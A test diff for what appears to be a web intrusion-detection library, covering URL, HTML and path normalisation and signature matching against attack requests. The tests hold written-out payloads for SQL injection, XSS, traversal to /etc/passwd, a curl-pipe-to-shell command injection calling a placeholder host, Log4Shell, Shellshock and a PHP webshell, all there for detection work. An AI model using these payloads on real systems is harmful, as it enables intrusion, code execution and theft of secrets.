@@ -1,0 +1,209 @@
+#include "normalise.h"
+#include "websig.h"
+
+#include <criterion/criterion.h>
+#include <stdio.h>
+#include <string.h>
+
+static const char *norm(const char *in, unsigned steps)
+{
+    static char out[1024];
+    fk_normalise(in, strlen(in), steps, out, sizeof out);
+    return out;
+}
+
+Test(normalise, url_decoding_repeated_and_unicode)
+{
+    cr_assert_str_eq(norm("%2e%2e%2fetc", FK_NORM_URL), "../etc");
+    cr_assert_str_eq(norm("%252e%252e%252f", FK_NORM_URL), "../", "double encoding");
+    cr_assert_str_eq(norm("%25252e", FK_NORM_URL), ".", "triple encoding");
+    cr_assert_str_eq(norm("%u002e%u002f", FK_NORM_URL), "./");
+    cr_assert_str_eq(norm("%uFF1Cscript%uFF1E", FK_NORM_URL), "<script>", "full-width forms");
+    cr_assert_str_eq(norm("%zz%4", FK_NORM_URL), "%zz%4", "invalid escapes stay");
+}
+
+Test(normalise, overlong_utf8_html_plus_nul_case)
+{
+    cr_assert_str_eq(norm("..\xc0\xaf..\xc0\xaf", FK_NORM_OVERLONG), "../../");
+    cr_assert_str_eq(norm("%c0%ae%c0%ae/", FK_NORM_URL | FK_NORM_OVERLONG), "../");
+    cr_assert_str_eq(norm("&lt;img src=x onerror&#61;alert&#x28;1)&gt;", FK_NORM_HTML),
+                     "<img src=x onerror=alert(1)>");
+    cr_assert_str_eq(norm("&#0000060;b&#62", FK_NORM_HTML), "<b>",
+                     "padded and unterminated references");
+    cr_assert_str_eq(norm("a+b", FK_NORM_URL | FK_NORM_PLUS), "a b");
+    cr_assert_str_eq(norm("a+b", FK_NORM_URL), "a+b", "'+' is literal in paths");
+    cr_assert_str_eq(norm("a%00b", FK_NORM_URL | FK_NORM_NUL), "ab");
+    cr_assert_str_eq(norm("SeLeCt", FK_NORM_LOWER), "select");
+}
+
+Test(normalise, path_and_sql_forms)
+{
+    cr_assert_str_eq(norm("/a//b/./c\\..\\d", FK_NORM_PATH), "/a/b/c/../d",
+                     "'..' is kept for the signatures");
+    cr_assert_str_eq(norm("1/**/UNION/*x*/SELECT", FK_NORM_LOWER | FK_NORM_SQL), "1 union select");
+    cr_assert_str_eq(norm("a \t\n  b", FK_NORM_SQL), "a b");
+    cr_assert_str_eq(norm("x' -- y", FK_NORM_SQL), "x' -- y");
+    char big[8];
+    cr_assert_eq(fk_normalise("abcdefghijkl", 12, FK_NORM_DEFAULT, big, sizeof big), 7,
+                 "cut to the buffer");
+}
+
+typedef struct {
+    char ids[1024];
+    int n;
+} hits;
+
+static int collect(void *ctx, const fk_websig_hit *h)
+{
+    hits *c = ctx;
+    c->n++;
+    strncat(c->ids, h->family, sizeof c->ids - strlen(c->ids) - 1);
+    strncat(c->ids, ":", sizeof c->ids - strlen(c->ids) - 1);
+    strncat(c->ids, h->id, sizeof c->ids - strlen(c->ids) - 1);
+    strncat(c->ids, " ", sizeof c->ids - strlen(c->ids) - 1);
+    return 0;
+}
+
+static fk_websig_set *set;
+
+static void load(void)
+{
+    fk_err err;
+    cr_assert_eq(fk_websig_load_default(&set, NULL, &err), 0, "%s", err.msg);
+}
+
+static void unload(void)
+{
+    fk_websig_free(set);
+}
+
+TestSuite(websig, .init = load, .fini = unload);
+
+static hits scan(const char *path, const char *query, const char *ua)
+{
+    fk_event ev;
+    fk_event_clear(&ev);
+    ev.kind = FK_KIND_WEB;
+    ev.path = (fk_str){path, strlen(path)};
+    if (query)
+        ev.query = (fk_str){query, strlen(query)};
+    if (ua)
+        ev.user_agent = (fk_str){ua, strlen(ua)};
+    hits h = {"", 0};
+    cr_assert_geq(fk_websig_match_event(set, &ev, collect, &h), 0);
+    return h;
+}
+
+#define FIRES(family, path, query, ua)                                                             \
+    do {                                                                                           \
+        hits h_ = scan(path, query, ua);                                                           \
+        cr_assert_not_null(strstr(h_.ids, family ":"), "%s not found for %s?%s [%s]: %s", family,  \
+                           path, query ? query : "", ua ? ua : "", h_.ids);                        \
+    } while (0)
+#define QUIET(path, query, ua)                                                                     \
+    do {                                                                                           \
+        hits h_ = scan(path, query, ua);                                                           \
+        cr_assert_eq(h_.n, 0, "false alarm on %s?%s [%s]: %s", path, query ? query : "",           \
+                     ua ? ua : "", h_.ids);                                                        \
+    } while (0)
+
+Test(websig, the_shipped_set_compiles)
+{
+    cr_assert_gt(fk_websig_count(set), 40);
+}
+
+Test(websig, sql_injection)
+{
+    FIRES("sqli", "/item", "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", NULL);
+    FIRES("sqli", "/item", "id=1/**/UnIoN/**/SeLeCt/**/1,2", NULL);
+    FIRES("sqli", "/login", "user=admin%27+or+%271%27%3D%271", NULL);
+    FIRES("sqli", "/p", "id=5 AND 1=1", NULL);
+    FIRES("sqli", "/p", "id=1;WAITFOR DELAY '0:0:5'", NULL);
+    FIRES("sqli", "/p", "q=x%27%20AND%20SLEEP(5)--", NULL);
+    FIRES("sqli", "/p", "id=1 and extractvalue(1,concat(0x7e,version()))", NULL);
+    FIRES("sqli", "/p", "id=-1' order by 3--", NULL);
+}
+
+Test(websig, cross_site_scripting)
+{
+    FIRES("xss", "/search", "q=%3Cscript%3Ealert(1)%3C/script%3E", NULL);
+    FIRES("xss", "/search", "q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E", NULL);
+    FIRES("xss", "/search", "q=&lt;svg/onload=prompt(1)&gt;", NULL);
+    FIRES("xss", "/r", "next=JaVaScRiPt:alert(1)", NULL);
+    FIRES("xss", "/r", "u=data:text/html;base64,PHNjcmlwdD4=", NULL);
+}
+
+Test(websig, traversal_inclusion_and_command_injection)
+{
+    FIRES("lfi", "/download", "file=..%2f..%2f..%2fetc%2fpasswd", NULL);
+    FIRES("lfi", "/static/..%252f..%252fwindows/win.ini", NULL, NULL);
+    FIRES("lfi", "/index.php", "page=php://filter/convert.base64-encode/resource=index", NULL);
+    FIRES("lfi", "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", NULL, NULL);
+    FIRES("rfi", "/index.php", "page=http://198.51.100.9/shell.txt?", NULL);
+    FIRES("rce", "/ping", "host=127.0.0.1;cat%20/etc/passwd", NULL);
+    FIRES("rce", "/ping", "host=x|whoami", NULL);
+    FIRES("rce", "/cgi", "a=$(curl%20http://x.example/s.sh|sh)", NULL);
+}
+
+Test(websig, code_injection_ssrf_and_tools)
+{
+    FIRES("code", "/", NULL, "${jndi:ldap://198.51.100.9/a}");
+    FIRES("code", "/", "x=${${lower:j}ndi:${lower:l}dap://x.example/a}", NULL);
+    FIRES("code", "/cgi-bin/status", NULL, "() { :; }; /bin/bash -c 'id'");
+    FIRES("code", "/index.php", "c=<?php system($_GET['x']); ?>", NULL);
+    FIRES("code", "/", "name={{7*7}}", NULL);
+    FIRES("code", "/action", "x=%{(#_memberAccess['allowStaticMethodAccess']=true)}", NULL);
+    FIRES("ssrf", "/fetch", "url=http://169.254.169.254/latest/meta-data/", NULL);
+    FIRES("ssrf", "/fetch", "url=gopher://127.0.0.1:6379/_info", NULL);
+    FIRES("scanner", "/", NULL, "Mozilla/5.0 (compatible; Nuclei - Open-source project)");
+    FIRES("scanner", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", NULL, NULL);
+    FIRES("sensitive", "/.env", NULL, NULL);
+    FIRES("sensitive", "/.git/config", NULL, NULL);
+    FIRES("sensitive", "/wp-config.php.bak", NULL, NULL);
+    FIRES("sensitive", "/backup.sql.gz", NULL, NULL);
+    FIRES("webshell", "/uploads/c99.php", NULL, NULL);
+    FIRES("webshell", "/images/x.php", "cmd=whoami", NULL);
+    FIRES("protocol", "/a%0d%0aSet-Cookie:%20x=1", NULL, NULL);
+}
+
+Test(websig, ordinary_traffic_is_quiet)
+{
+    QUIET("/", NULL,
+          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+          "Chrome/124.0 Safari/537.36");
+    QUIET("/search", "q=rock+and+roll&sort=date", NULL);
+    QUIET("/search", "q=select+a+hotel+from+tokyo", NULL);
+    QUIET("/news/2024/05/01/notice.html", "utm_source=newsletter&utm_medium=email", NULL);
+    QUIET("/api/v1/items", "fields=id,name&order=desc&limit=20", NULL);
+    QUIET("/img/logo.png", NULL, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)");
+    QUIET("/products/detail", "id=123&color=red&size=m", NULL);
+    QUIET("/docs/user-guide.pdf", NULL, NULL);
+    QUIET("/login", "next=%2Fmypage%3Ftab%3Dorders", NULL);
+    QUIET("/cart", "coupon=SPRING-2024&qty=2", NULL);
+    QUIET("/comments", "text=I%27m+happy+it%27s+working", NULL);
+    QUIET("/js/app.min.js", "v=3.2.1", NULL);
+    QUIET("/search", "q=%E6%9D%B1%E4%BA%AC+%E5%A4%A9%E6%B0%97", NULL);
+}
+
+Test(websig, family_selection_and_bad_sets)
+{
+    fk_websig_set *only;
+    fk_err err;
+    cr_assert_eq(fk_websig_load_default(&only, "xss", &err), 0, "%s", err.msg);
+    fk_event ev;
+    fk_event_clear(&ev);
+    ev.kind = FK_KIND_WEB;
+    ev.path = FK_STR("/p");
+    ev.query = FK_STR("id=1 union select 1,2");
+    hits h = {"", 0};
+    cr_assert_eq(fk_websig_match_event(only, &ev, collect, &h), 0, "only XSS is loaded: %s", h.ids);
+    fk_websig_free(only);
+    cr_assert_eq(fk_websig_load_default(&only, "nosuchfamily", &err), -1);
+    const char bad[] = "signatures:\n  - id: x\n    family: f\n    pattern: '(a'\n";
+    cr_assert_eq(fk_websig_load(&only, "bad.yml", bad, sizeof bad - 1, NULL, &err), -1);
+    cr_assert_not_null(strstr(err.msg, "signature x"), "%s", err.msg);
+    const char bad2[] =
+        "signatures:\n  - id: y\n    family: f\n    pattern: a\n    fields: [cookie]\n";
+    cr_assert_eq(fk_websig_load(&only, "bad.yml", bad2, sizeof bad2 - 1, NULL, &err), -1);
+    cr_assert_not_null(strstr(err.msg, "bad.yml:5"), "%s", err.msg);
+}
